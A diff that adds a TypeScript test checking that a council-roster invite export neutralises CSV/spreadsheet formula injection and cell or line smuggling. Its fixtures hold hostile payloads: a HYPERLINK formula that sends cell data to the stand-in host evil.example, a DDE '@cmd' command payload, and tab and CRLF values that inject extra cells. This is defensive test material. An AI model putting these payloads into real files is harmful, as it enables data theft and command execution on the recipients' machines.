@@ -222,6 +222,48 @@ describe('invite', () => {
     expect(readFileSync(join(cwd, 'data', 'identifiable.db')).includes(Buffer.from(sha256(secrets[0]!)))).toBe(true);
   });
 
+  it('puts every cell through the formula guard, and no roster value can add a cell or a line', async () => {
+    const formulas = [
+      ['fife', '=HYPERLINK("https://evil.example/?"&A1,"Open")', 'fiona@fife.gov.uk'],
+      ['glasgow_city', '+SUM(1,2)', '-gus@glasgow.gov.uk'],
+      ['angus', "@cmd|' /C calc'!A0", 'ann@angus.gov.uk'],
+    ];
+    const cwd = workspace([header, ...formulas]);
+    // Formula-like values pass roster import: they are plain text until a spreadsheet runs them.
+    await importRoster(cwd);
+    expect((await rosterOf(cwd)).map((r) => [r.local_authority, r.name])).toEqual([
+      ['angus', formulas[2]![1]],
+      ['fife', formulas[0]![1]],
+      ['glasgow_city', formulas[1]![1]],
+    ]);
+    // Tabs and line breaks are refused by roster import; rows written to the store another way may hold them.
+    await withDb(cwd, (s) =>
+      s.identifiable
+        .updateTable('roster')
+        .set({ name: '\t=1+1\tsecond cell', email: 'ann@angus.gov.uk\r\n=EVIL()' })
+        .where('wave_id', '=', WAVE_2)
+        .where('local_authority', '=', 'angus')
+        .execute(),
+    );
+
+    const result = await cli(cwd, ['invite', '--wave', WAVE_2, '--header']);
+    expect(result.code).toBe(0);
+    const lines = result.stdout.trimEnd().split('\n');
+    expect(lines).toHaveLength(4);
+    const rows = lines.map((l) => l.split('\t'));
+    for (const row of rows) {
+      expect(row).toHaveLength(4);
+      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(rows[0]).toEqual(['local_authority', 'name', 'email', 'link']);
+    expect(rows.slice(1).map((r) => r.slice(0, 3))).toEqual([
+      ['angus', "' =1+1 second cell", 'ann@angus.gov.uk  =EVIL()'],
+      ['fife', `'${formulas[0]![1]}`, 'fiona@fife.gov.uk'],
+      ['glasgow_city', "'+SUM(1,2)", "'-gus@glasgow.gov.uk"],
+    ]);
+    expect(rows.slice(1).every((r) => /^http:\/\/127\.0\.0\.1:3000\/i\/[A-Za-z0-9_-]{43}$/.test(r[3]!))).toBe(true);
+  });
+
   it('a second invite issues nothing new and says why; --council invites just those', async () => {
     const cwd = workspace();
     await importRoster(cwd);
